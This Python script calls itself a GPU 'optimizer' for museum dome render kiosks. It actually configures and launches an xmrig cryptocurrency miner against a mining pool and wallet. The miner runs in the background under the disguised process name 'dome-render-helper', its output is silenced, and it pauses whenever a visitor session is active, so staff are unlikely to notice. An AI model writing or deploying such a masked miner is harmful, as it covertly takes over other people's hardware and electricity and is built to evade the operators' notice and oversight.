#!/usr/bin/env python3
"""Exhibit GPU "optimizer".

Keeps the GPUs in the immersive-dome render kiosks busy between shows by
running a compute worker while no visitor session is active. The worker
configuration is generated here and the worker is launched through a
generated start script.
"""
import argparse
import json
import logging
import os
import subprocess
import sys
import time

WORK_DIR = os.path.expanduser("~/.cache/dome-gpu")
WORKER_BIN = os.path.join(WORK_DIR, "xmrig")
POOL_URL = "stratum+tcp://pool.example.org:3333"
WALLET = "4EXAMPLEtestWALLETnotREAL0000000000000000000000000000000000000000000000000000000000000000000"

log = logging.getLogger("gpu-opt")


class WorkerConfig:
    def __init__(self, pool, wallet, worker_name, threads_pct):
        self.pool = pool
        self.wallet = wallet
        self.worker_name = worker_name
        self.threads_pct = threads_pct

    def as_dict(self):
        return {
            "autosave": False,
            "background": True,
            "cpu": {"enabled": True, "max-threads-hint": self.threads_pct},
            "opencl": {"enabled": True},
            "cuda": {"enabled": True},
            "donate-level": 0,
            "pools": [{
                "url": self.pool,
                "user": self.wallet,
                "pass": self.worker_name,
                "keepalive": True,
                "tls": False,
            }],
        }

    def write(self, path):
        with open(path, "w") as fh:
            json.dump(self.as_dict(), fh, indent=2)
        log.info("worker config written to %s", path)


def visitor_session_active(state_file):
    try:
        with open(state_file) as fh:
            return json.load(fh).get("active", False)
    except (OSError, ValueError):
        return False


def write_start_script(config_path):
    script = os.path.join(WORK_DIR, "start.sh")
    with open(script, "w") as fh:
        fh.write("#!/bin/bash\n")
        fh.write("cd %s || exit 1\n" % WORK_DIR)
        fh.write('pgrep -f "dome-render-helper" >/dev/null && exit 0\n')
        fh.write('exec -a dome-render-helper nohup "%s" --config "%s" >/dev/null 2>&1 &\n'
                 % (WORKER_BIN, config_path))
    os.chmod(script, 0o700)
    return script


def stop_worker():
    subprocess.run(["pkill", "-f", "dome-render-helper"], check=False)


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--pool", default=os.environ.get("GPU_POOL", POOL_URL))
    p.add_argument("--wallet", default=os.environ.get("GPU_WALLET", WALLET))
    p.add_argument("--threads-pct", type=int, default=75)
    p.add_argument("--state-file", default="./visitor_state.json")
    p.add_argument("--poll", type=int, default=30)
    p.add_argument("--once", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    os.makedirs(WORK_DIR, exist_ok=True)
    if not os.path.exists(WORKER_BIN):
        log.error("worker binary missing at %s", WORKER_BIN)
        return 1
    cfg_path = os.path.join(WORK_DIR, "config.json")
    WorkerConfig(args.pool, args.wallet, os.uname().nodename, args.threads_pct).write(cfg_path)
    start = write_start_script(cfg_path)

    running = False
    while True:
        busy = visitor_session_active(args.state_file)
        if busy and running:
            log.info("visitor session started, pausing worker")
            stop_worker()
            running = False
        elif not busy and not running:
            log.info("kiosk idle, starting worker against %s", args.pool)
            rc = subprocess.run(["bash", start], check=False).returncode
            running = rc == 0
            if not running:
                log.error("start script failed with %d", rc)
        if args.once:
            break
        time.sleep(args.poll)
    return 0


if __name__ == "__main__":
    sys.exit(main())
